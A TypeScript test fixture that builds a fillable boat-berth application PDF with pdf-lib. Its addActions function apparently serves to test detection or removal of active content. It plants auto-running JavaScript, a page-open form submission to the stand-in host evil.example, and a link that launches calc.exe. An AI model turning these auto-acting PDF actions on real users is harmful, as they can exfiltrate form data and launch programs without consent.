/** A fillable PDF with every kind of field, made by pdf-lib; field names with dots make a hierarchy. */
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, rgb } from 'pdf-lib';
import type { PDFField } from 'pdf-lib';

const label = (field: PDFField, text: string): void => {
  field.acroField.dict.set(PDFName.of('TU'), PDFHexString.fromText(text));
};

/** `change`: what a test does to the document before it is saved. */
export async function makeForm(change?: (document: PDFDocument) => void): Promise<Uint8Array> {
  const document = await PDFDocument.create({ updateMetadata: false });
  const font = await document.embedFont(StandardFonts.Helvetica);
  const first = document.addPage([595, 842]);
  const second = document.addPage([595, 842]);
  const form = document.getForm();
  let y = 780;
  const row = (text: string, page = first): number => {
    y -= 44;
    page.drawText(text, { x: 60, y: y + 6, size: 11, font, color: rgb(0.2, 0.2, 0.3) });
    return y;
  };
  first.drawText('Application for a boat berth', { x: 60, y: 790, size: 20, font });
  const at = (bottom: number, more: object = {}) => ({
    x: 240,
    y: bottom,
    width: 280,
    height: 22,
    borderWidth: 1,
    borderColor: rgb(0.5, 0.55, 0.6),
    backgroundColor: rgb(0.97, 0.97, 1),
    ...more,
  });

  const name = form.createTextField('applicant.name');
  name.addToPage(first, at(row('Name')));
  name.enableRequired();
  label(name, 'Navn på ansøgeren');

  const code = form.createTextField('applicant.postcode');
  code.setMaxLength(4);
  code.addToPage(first, at(row('Postcode'), { width: 100 }));
  code.enableCombing();

  const notes = form.createTextField('notes');
  notes.enableMultiline();
  y -= 50;
  notes.addToPage(first, at(row('Notes'), { height: 76 }));
  label(notes, 'Notes');

  const locked = form.createTextField('reference');
  locked.setText('2026-0042');
  locked.addToPage(first, at(row('Our reference')));
  locked.enableReadOnly();

  const member = form.createCheckBox('member');
  member.addToPage(first, at(row('Member of the club'), { width: 18, height: 18 }));
  label(member, 'Member of the club');

  const season = form.createRadioGroup('season');
  season.addOptionToPage('Summer', first, at(row('Summer'), { width: 18, height: 18 }));
  season.addOptionToPage('All year', first, at(row('All year'), { width: 18, height: 18 }));
  season.enableRequired();
  label(season, 'Season');

  y = 800;
  const berth = form.createDropdown('berth');
  berth.addOptions(['North pier', 'South pier', 'Æbelø']);
  berth.addToPage(second, at(row('Berth', second)));
  label(berth, 'Berth');

  const color = form.createDropdown('color');
  color.addOptions(['Red', 'Blue']);
  color.enableEditing();
  color.addToPage(second, at(row('Color of the hull', second)));

  const extras = form.createOptionList('extras');
  extras.addOptions(['Power', 'Water', 'Winter storage']);
  extras.enableMultiselect();
  y -= 40;
  extras.addToPage(second, at(row('Extras', second), { height: 60 }));
  label(extras, 'Extras');
  form.updateFieldAppearances(font);
  change?.(document);
  return document.save({ useObjectStreams: false, updateFieldAppearances: false });
}

/** Values for each of its fields, with letters from elsewhere. */
export const answers: Readonly<Record<string, readonly string[]>> = {
  'applicant.name': ['Søren Ægir Åkjær'],
  'applicant.postcode': ['8000'],
  notes: ['Μια βάρκα από την Ελλάδα\nand a mast of 9½ m'],
  reference: ['2026-0042'],
  member: ['Yes'],
  season: ['All year'],
  berth: ['Æbelø'],
  color: ['Grøn'],
  extras: ['Power', 'Winter storage'],
};

/** Things that would act by themselves in a reader. */
export function addActions(document: PDFDocument): void {
  const { context } = document;
  const script = context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("script one")') });
  document.catalog.set(PDFName.of('OpenAction'), context.register(script));
  const names = context.obj({ JavaScript: { Names: [PDFString.of('a'), script] } });
  document.catalog.set(PDFName.of('Names'), names);
  document.catalog.set(PDFName.of('AA'), context.obj({ WC: script }));
  const [page] = document.getPages();
  const submit = context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example/take') });
  page?.node.set(PDFName.of('AA'), context.obj({ O: submit }));
  const link = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [10, 10, 40, 40],
    A: { S: 'Launch', F: PDFString.of('calc.exe') },
  });
  page?.node.addAnnot(context.register(link));
  const field = document.getForm().getTextField('notes').acroField.dict;
  field.set(
    PDFName.of('AA'),
    context.obj({ K: { S: 'JavaScript', JS: PDFString.of('AFDate_KeystrokeEx("d")') } }),
  );
}
